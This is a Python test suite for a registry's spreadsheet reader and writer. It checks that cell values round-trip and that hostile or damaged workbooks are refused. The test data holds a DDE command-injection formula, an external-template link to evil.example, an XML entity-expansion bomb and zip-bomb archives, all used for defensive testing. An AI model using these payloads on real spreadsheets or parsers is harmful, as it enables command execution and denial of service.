"""Workbooks: what is written is read back, what is hostile is refused, faults come back in the cells."""

import io
import zipfile
from collections.abc import Callable
from datetime import date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from registry.adapters.spreadsheet import LONGEST_CELL, MOST_ROWS, OpenXmlSheets
from registry.entry import entry_of, write
from registry.errors import SubmissionTooLarge, UnreadableSubmission, UnsupportedFormat
from registry.intake import read_submission
from registry.registry import Registry
from registry.sheets import ERRORS, Book, CellPlace, Column, Sheet
from registry.workbook import book_of
from registry.workbook_reading import read_book
from tests.entries import EXAMPLES, TEXTS, entries

SHEETS = OpenXmlSheets()
COLUMNS = (Column(header="Name of the row", note="How to fill in: x"), Column(header="Value", note="", listed="truth"))


def book(*values: str | int | float | date | None) -> Book:
    return Book(("Cover",), (Sheet("One", "help", COLUMNS, tuple((str(i), v) for i, v in enumerate(values))),), {})


def cells(raw: bytes, title: str = "One") -> dict[tuple[int, int], str]:
    return dict(next(grid for grid in SHEETS.read(raw) if grid.title == title).cells)


def plain(fill: Callable[[Workbook], object]) -> bytes:
    """Make a workbook as a spreadsheet program would."""
    workbook, target = Workbook(), io.BytesIO()
    workbook.active.title = "One"
    fill(workbook)
    workbook.save(target)
    return target.getvalue()


def changed(raw: bytes, name: str, body: bytes) -> bytes:
    """Put one more part into an archive, or another in its place."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename != name:
                new.writestr(part, old.read(part))
        new.writestr(name, body)
    return target.getvalue()


@settings(max_examples=60, deadline=None)
@given(text=TEXTS)
def test_a_text_is_read_as_it_was_written(text: str) -> None:
    assert cells(SHEETS.write(book(text)))[3, 2] == text


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "@SUM(A1)", "-2", "=cmd|' /C calc'!A0", "#N/A", "_x0041_", "TRUE", "1e5"]
)
def test_no_text_becomes_a_formula_a_number_or_an_error(text: str) -> None:
    raw = SHEETS.write(book(text))
    cell = load_workbook(io.BytesIO(raw))["One"].cell(3, 2)
    assert cell.data_type == "s"
    assert cells(raw)[3, 2] == text


def test_days_numbers_and_truths_are_read_as_we_write_them() -> None:
    def fill(workbook: Workbook) -> None:
        for row, value in enumerate([date(2026, 6, 30), datetime(2026, 6, 30, 12), 3, 3.0, 0.1, True, 1e-7], start=1):
            workbook.active.cell(row, 1).value = value

    found = cells(plain(fill))
    assert [found[row, 1] for row in range(1, 8)] == [
        "2026-06-30",
        "2026-06-30 12:00:00",
        "3",
        "3",
        "0.1",
        "true",
        "0.0000001",
    ]


def test_lists_are_offered_and_headers_stay_in_sight(registry: Registry) -> None:
    workbook = load_workbook(io.BytesIO(registry.workbook()))
    city = workbook["City"]
    assert city.freeze_panes == "B3"
    offered = {validation.formula1 for validation in city.data_validations.dataValidation}
    assert any(str(source).startswith("Lists!") for source in offered)
    assert "'Action plan'!$A$3:$A$1000" in offered
    assert workbook.sheetnames[0] == "Start"
    assert workbook.sheetnames[-1] == "Lists"
    assert not [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.slow
@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.stem)
def test_an_example_is_the_same_graph_after_a_file(registry: Registry, path: object) -> None:
    plan, syntax = registry.entry_plan, registry.artefacts.syntax
    raw = path.read_bytes()  # type: ignore[attr-defined]  # a path
    found = read_submission(raw, "text/turtle", profile=registry.profile, syntax=syntax)
    workbook = SHEETS.write(book_of(entry_of(found.graph, found.city, plan), plan))
    read = read_book(SHEETS.read(workbook), plan)
    assert read.marks == ()
    assert set(write(read.entry, plan).graph) == set(found.graph)


@pytest.mark.slow
@settings(max_examples=40, deadline=None)
@given(data=st.data())
def test_any_graph_is_the_same_after_a_file(registry: Registry, data: st.DataObject) -> None:
    plan = registry.entry_plan
    graph = write(data.draw(entries(plan)), plan)
    read = read_book(SHEETS.read(SHEETS.write(book_of(entry_of(graph.graph, graph.city, plan), plan))), plan)
    assert read.marks == ()
    assert set(write(read.entry, plan).graph) == set(graph.graph)


def formula(workbook: Workbook) -> None:
    workbook.active["B7"].value = "=WEBSERVICE(A1)"


def far(workbook: Workbook) -> None:
    workbook.active.cell(MOST_ROWS + 1, 3).value = "x"


def wide(workbook: Workbook) -> None:
    workbook.active.cell(2, 500).value = "x"


EMPTY = plain(lambda _: None)
LINK = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/x" TargetMode="External"/></Relationships>'
)
BOMB = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
REFUSED = [
    (plain(formula), UnsupportedFormat, "One!B7 holds a formula"),
    (plain(far), SubmissionTooLarge, "One!C2001 lies beyond row"),
    (plain(wide), SubmissionTooLarge, "lies beyond row"),
    (changed(EMPTY, "xl/vbaProject.bin", b"x"), UnsupportedFormat, "macros"),
    (changed(EMPTY, "xl/externalLinks/externalLink1.xml", b"<x/>"), UnsupportedFormat, "external links"),
    (changed(EMPTY, "xl/connections.xml", b"<x/>"), UnsupportedFormat, "external links"),
    (changed(EMPTY, "xl/embeddings/a.docx", b"x"), UnsupportedFormat, "embedded"),
    (changed(EMPTY, "xl/worksheets/_rels/sheet1.xml.rels", LINK), UnsupportedFormat, "external links"),
    (changed(EMPTY, "xl/worksheets/sheet1.xml", BOMB), UnsupportedFormat, "entities"),
    (changed(EMPTY, "xl/worksheets/sheet1.xml", BOMB.decode().encode("utf-16")), UnsupportedFormat, "encoding"),
    (changed(EMPTY, "xl/worksheets/sheet1.xml", b"<worksheet><unclosed>"), UnreadableSubmission, "cannot be read"),
    (changed(EMPTY, "xl/worksheets/sheet2.xml", b" " * 41_000_000), SubmissionTooLarge, "unpacks to more"),
    (b"PK\x03\x04 nonsense", UnreadableSubmission, "no workbook"),
    (EMPTY[: len(EMPTY) // 2], UnreadableSubmission, "no workbook"),
    (b"hello", UnreadableSubmission, "no workbook"),
]


@pytest.mark.parametrize(
    ("raw", "kind", "words"), REFUSED, ids=[f"{n}-{case[2][:12]}" for n, case in enumerate(REFUSED)]
)
def test_what_is_hostile_or_damaged_is_refused_in_one_sentence(raw: bytes, kind: type[Exception], words: str) -> None:
    with pytest.raises(kind, match=words) as refusal:
        SHEETS.read(raw)
    assert str(refusal.value).endswith(".")


def test_a_lying_archive_unpacks_no_more_than_it_says() -> None:
    raw = bytearray(changed(EMPTY, "xl/worksheets/sheet2.xml", b" " * 5_000_000))
    place = raw.rfind((5_000_000).to_bytes(4, "little"))
    raw[place : place + 4] = (10).to_bytes(4, "little")
    with pytest.raises((UnreadableSubmission, UnsupportedFormat)):
        SHEETS.read(bytes(raw))


def test_links_that_people_type_into_cells_are_harmless() -> None:
    def fill(workbook: Workbook) -> None:
        workbook.active["A1"].value = "https://oderau.example/"
        workbook.active["A1"].hyperlink = "https://oderau.example/"

    assert cells(plain(fill))[1, 1] == "https://oderau.example/"


def test_a_text_longer_than_a_cell_is_refused_and_never_cut() -> None:
    with pytest.raises(SubmissionTooLarge, match="One!B3 would hold"):
        SHEETS.write(book("x" * (LONGEST_CELL + 1)))


def test_faults_come_back_in_the_cells() -> None:
    notes = {CellPlace("One", 3, 2): ["Not a day.", "Too late."], CellPlace("Nowhere", 1, 1): ["No such sheet."]}
    raw = SHEETS.annotate(SHEETS.annotate(SHEETS.write(book("x")), notes), notes)
    workbook = load_workbook(io.BytesIO(raw))
    comment = workbook["One"].cell(3, 2).comment
    assert comment is not None
    assert comment.text == "Not a day.\nToo late."
    assert workbook.sheetnames.count(ERRORS) == 1
    assert {workbook[ERRORS].cell(row, 1).value for row in (1, 2)} == {"One!B3", "Nowhere!A1"}
    assert cells(raw)[3, 2] == "x"
